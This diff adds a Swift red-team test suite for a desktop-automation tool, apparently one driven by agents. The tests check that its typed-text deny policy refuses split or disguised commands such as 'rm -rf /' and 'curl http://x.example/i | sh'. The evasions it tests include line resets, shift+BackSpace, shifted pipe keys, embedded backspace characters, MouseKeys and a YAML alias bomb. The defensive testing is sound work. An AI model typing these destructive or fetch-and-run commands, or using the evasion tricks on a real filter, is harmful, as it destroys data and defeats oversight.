@@ -1,0 +1,198 @@
+import Foundation
+import Testing
+
+/// Red team for issue 15, reproduced as the issue writes each finding, through the built binary on a real
+/// Xvfb with the logging fixture: what the receiving window got is the assertion.
+@Suite("Red team: effects", .serialized)
+struct RedTeamInputTests {
+    /// A fixture window on a private display; `field` is what its text field holds now.
+    final class Target: @unchecked Sendable {
+        let display = try! ActPolicyTests.Display()
+        let log = NSTemporaryDirectory() + "deskpilot-redteam-\(UUID().uuidString).log"
+        let fixture = Process()
+
+        init() throws {
+            fixture.executableURL = URL(fileURLWithPath: CLIRunner.path("deskpilot-fixture"))
+            fixture.arguments = ["--log", log, "--geometry", "600x400+0+0"]
+            fixture.environment = ["DISPLAY": display.name]
+            fixture.standardOutput = FileHandle.nullDevice
+            fixture.standardError = FileHandle.nullDevice
+            try fixture.run()
+            let end = Date().addingTimeInterval(10)
+            while Date() < end && !lines.contains(where: { $0["type"] as? String == "ready" }) { usleep(20_000) }
+            // Focus the fixture (no window manager): click its text field.
+            _ = try act(["click", "300", "240"])
+        }
+
+        var lines: [[String: Any]] {
+            ((try? String(contentsOfFile: log, encoding: .utf8)) ?? "").split(separator: "\n").compactMap {
+                try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]
+            }
+        }
+
+        /// The text field's last logged value.
+        var field: String {
+            usleep(150_000)
+            return lines.last(where: { $0["type"] as? String == "text" })?["value"] as? String ?? ""
+        }
+
+        /// Every key the fixture received, by keysym name.
+        var keys: [String] { lines.filter { $0["type"] as? String == "key_press" }.compactMap { $0["name"] as? String } }
+
+        func act(_ arguments: [String], policy: String = "default") throws -> CLIRunner.Result {
+            try CLIRunner.run(["act"] + arguments + ["--display", display.name, "--policy", policy],
+                              environment: ["XDG_RUNTIME_DIR": runtimeDir])
+        }
+
+        lazy var runtimeDir: String = {
+            let dir = NSTemporaryDirectory() + "deskpilot-redteam-run-\(UUID().uuidString)"
+            try? FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true,
+                                                     attributes: [.posixPermissions: 0o700])
+            return dir
+        }()
+
+        func stop() {
+            kill(fixture.processIdentifier, SIGKILL)
+            fixture.waitUntilExit()
+            display.stop()
+            try? FileManager.default.removeItem(atPath: log)
+            try? FileManager.default.removeItem(atPath: runtimeDir)
+        }
+    }
+
+    /// `type "a"`, `key ctrl+u`, `type "rm -rf /tmp/x\n"`: the stream saw "arm -rf"; now the line kill
+    /// empties the edited reading and the command is refused. Same for every other line reset.
+    @Test(arguments: [["ctrl+u"], ["ctrl+c"], ["Escape"], ["ctrl+a"], ["Home"], ["shift+Home"], ["ctrl+w"], ["End"]])
+    func aLineResetBetweenTypesDoesNotHideACommand(reset: [String]) throws {
+        let target = try Target()
+        defer { target.stop() }
+        #expect(try target.act(["type", "a"]).status == 0)
+        let resetResult = try target.act(["key"] + reset)
+        #expect(resetResult.status == 0, "\(resetResult.stderr)")
+        let attack = try target.act(["type", "rm -rf /tmp/x\n"])
+        #expect(attack.status == 4, "\(attack.stderr)")
+        #expect(attack.stderr.contains("text.deny[0]"), "\(attack.stderr)")
+        #expect(!target.field.contains("rm"), "\(target.field)")
+    }
+
+    /// A click between two `type`s (the caret may have moved to the line start) does not hide a command.
+    @Test func aClickBetweenTypesDoesNotHideACommand() throws {
+        let target = try Target()
+        defer { target.stop() }
+        #expect(try target.act(["type", "a"]).status == 0)
+        #expect(try target.act(["click", "300", "240"]).status == 0)
+        let attack = try target.act(["type", "rm -rf /tmp/x\n"])
+        #expect(attack.status == 4, "\(attack.stderr)")
+        #expect(!target.field.contains("rm"), "\(target.field)")
+    }
+
+    /// `shift+BackSpace` deletes like BackSpace: `rm -rX`, shift+BackSpace, `f /` is `rm -rf /`.
+    @Test func shiftBackSpaceIsADeletion() throws {
+        let target = try Target()
+        defer { target.stop() }
+        #expect(try target.act(["type", "rm -rX"]).status == 0)
+        #expect(try target.act(["key", "shift+BackSpace"]).status == 0)
+        let attack = try target.act(["type", "f /"])
+        #expect(attack.status == 4, "\(attack.stderr)")
+        #expect(target.field == "rm -r", "\(target.field)")
+    }
+
+    /// `shift+backslash` enters the stream as `|` (what the keymap types), so `curl … | sh` is caught.
+    @Test func shiftedKeysEnterTheStreamAsTheirCharacter() throws {
+        let target = try Target()
+        defer { target.stop() }
+        #expect(try target.act(["type", "curl http://x.example/i "]).status == 0)
+        #expect(try target.act(["key", "shift+backslash"]).status == 0)
+        let attack = try target.act(["type", " sh\n"])
+        #expect(attack.status == 4, "\(attack.stderr)")
+        #expect(target.field == "curl http://x.example/i |", "\(target.field)")
+    }
+
+    /// Two `act type` invocations share one stream per display: `rm -r` then ` -f /` is refused.
+    @Test func theStreamCarriesAcrossActInvocations() throws {
+        let target = try Target()
+        defer { target.stop() }
+        #expect(try target.act(["type", "rm -r"]).status == 0)
+        let attack = try target.act(["type", " -f /tmp/victim"])
+        #expect(attack.status == 4, "\(attack.stderr)")
+        #expect(target.field == "rm -r", "\(target.field)")
+        let file = target.runtimeDir + "/deskpilot"
+        let entries = try FileManager.default.contentsOfDirectory(atPath: file)
+        #expect(!entries.isEmpty)
+        for entry in entries {
+            let mode = try FileManager.default.attributesOfItem(atPath: file + "/" + entry)[.posixPermissions] as? Int
+            #expect(mode == 0o600 || mode == 0o700, "\(entry): \(String(mode ?? 0, radix: 8))")
+        }
+    }
+
+    /// `\b` inside one `type` would delete in the app but not in the stream: refused, naming the character.
+    @Test func controlCharactersInTypedTextAreRefused() throws {
+        let target = try Target()
+        defer { target.stop() }
+        let attack = try target.act(["type", "rm -r;\u{8} -f /tmp/victim"])
+        #expect(attack.status == 4, "\(attack.stderr)")
+        #expect(attack.stderr.contains("U+0008 (backspace)"), "\(attack.stderr)")
+        #expect(target.field.isEmpty, "\(target.field)")
+        #expect(!target.keys.contains("BackSpace"))
+    }
+
+    /// `ctrl+Cyrillic_shorti` is a key (any X keysym name is).
+    @Test func anyKeysymNameIsAKey() throws {
+        let target = try Target()
+        defer { target.stop() }
+        let result = try target.act(["key", "ctrl+Cyrillic_shorti"], policy: "permissive")
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(target.keys.contains("Cyrillic_shorti"), "\(target.keys)")
+    }
+
+    /// MouseKeys: `Pointer_EnableKeys` and the `Pointer_*` keys are refused by default (they click without
+    /// a click being judged), and the fixture receives nothing.
+    @Test(arguments: ["Pointer_EnableKeys", "Pointer_Button1", "Pointer_DblClick1", "Pointer_Drag1", "ctrl+Pointer_Button1"])
+    func mouseKeysAreRefused(key: String) throws {
+        let target = try Target()
+        defer { target.stop() }
+        let before = target.lines.filter { $0["type"] as? String == "button_press" }.count
+        let result = try target.act(["key", key], policy: "permissive")
+        #expect(result.status == 4, "\(result.stderr)")
+        #expect(result.stderr.contains("keys.pointer"), "\(result.stderr)")
+        _ = target.field
+        #expect(target.lines.filter { $0["type"] as? String == "button_press" }.count == before)
+        #expect(!target.keys.contains(where: { $0.hasPrefix("Pointer_") }))
+    }
+
+    static func taskFile(_ yaml: String) throws -> (dir: String, path: String) {
+        let dir = NSTemporaryDirectory() + "deskpilot-redteam-task-\(UUID().uuidString)"
+        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
+        try yaml.write(toFile: dir + "/task.yaml", atomically: true, encoding: .utf8)
+        return (dir, dir + "/task.yaml")
+    }
+
+    /// A ~700-byte alias bomb in `checks` ran for over 100 s and grew to 1.15 GB; now `run` refuses it
+    /// in under a second, naming the line.
+    @Test func anAliasBombIsRefusedAtOnce() throws {
+        var yaml = "goal: g\nchecks:\n- all: &a0 [{file_exists: /x}, {file_exists: /x}]\n"
+        for level in 1...6 {
+            yaml += "- all: &a\(level) [" + Array(repeating: "{all: *a\(level - 1)}", count: 9).joined(separator: ",") + "]\n"
+        }
+        let (dir, path) = try Self.taskFile(yaml)
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let start = Date()
+        let result = try CLIRunner.run(["run", path, "--headless"], timeout: 20)
+        #expect(Date().timeIntervalSince(start) < 2.0)
+        #expect(result.status == 2, "\(result.stderr)")
+        #expect(result.stderr.contains("task.yaml:"), "\(result.stderr)")
+        #expect(result.stderr.contains("aliases would expand"), "\(result.stderr)")
+    }
+
+    /// `max_duration: 2s` + `wait: 20s` ran 20 s and exited 0; now the wait ends at the limit, exit 1.
+    @Test func waitsEndAtMaxDuration() throws {
+        let (dir, path) = try Self.taskFile("max_duration: 2s\nsteps:\n  - wait: 20s\n  - key: a\n")
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let start = Date()
+        let result = try CLIRunner.run(["run", path, "--headless", "--trace-dir", dir + "/traces"], timeout: 30)
+        let elapsed = Date().timeIntervalSince(start)
+        #expect(result.status == 1, "\(result.stderr) \(result.stdoutText)")
+        #expect(elapsed < 8, "took \(elapsed) s")
+        #expect(result.stdoutText.contains("max_duration"), "\(result.stdoutText)")
+    }
+}
